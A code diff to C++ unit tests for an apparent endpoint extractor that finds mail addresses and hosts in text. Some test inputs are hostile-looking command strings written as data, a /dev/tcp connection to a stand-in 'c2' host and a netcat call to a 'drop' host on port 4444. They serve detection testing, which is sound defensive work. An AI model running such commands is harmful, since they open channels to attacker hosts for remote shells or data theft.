@@ -91,6 +91,7 @@ TEST(Endpoints, MailsAreSecret) {
   const auto r = look("report to Jane.Doe+x@Vendor.INVALID.", "text");
   ASSERT_EQ(values(r, "mail"), List{"jane.doe+x@vendor.invalid"});
   EXPECT_TRUE(r.sink.items[0].secret);
+  EXPECT_EQ(values(look("jan@poczta.pl", "text"), "mail").size(), 1u);
   for (const auto text : {"pkg@1.2.3", "memcpy@GLIBC_2.14", "user@libfoo.so", "dbus@user.service", "@decorator.name", "a@b"}) EXPECT_TRUE(values(look(text), "mail").empty()) << text;
 }
 
@@ -103,6 +104,7 @@ TEST(Endpoints, SshTargetIsAHostNotAMailbox) {
 TEST(Endpoints, HostsOnlyInContext) {
   EXPECT_EQ(values(look("exec 3<>/dev/tcp/c2.vendor.invalid/443"), "host"), List{"c2.vendor.invalid"});
   EXPECT_EQ(values(look("nc -w 3 drop.vendor.invalid 4444"), "host"), List{"drop.vendor.invalid"});
+  EXPECT_TRUE(values(look("nc -l 1234 > filename.in"), "host").empty());
   EXPECT_EQ(values(look("server = \"relay.vendor.invalid\""), "host"), List{"relay.vendor.invalid"});
   EXPECT_EQ(values(look(std::string_view("\0beacon.vendor.invalid\0", 23), "elf"), "host"), List{"beacon.vendor.invalid"});
   for (const auto text : {"import foo.com.bar", "'README.md'", "'main.py'", "\"org.apache.net\"", "window.name", "\"user.name\"", "see setup.py", "use java.net now", "x = foo.org"})
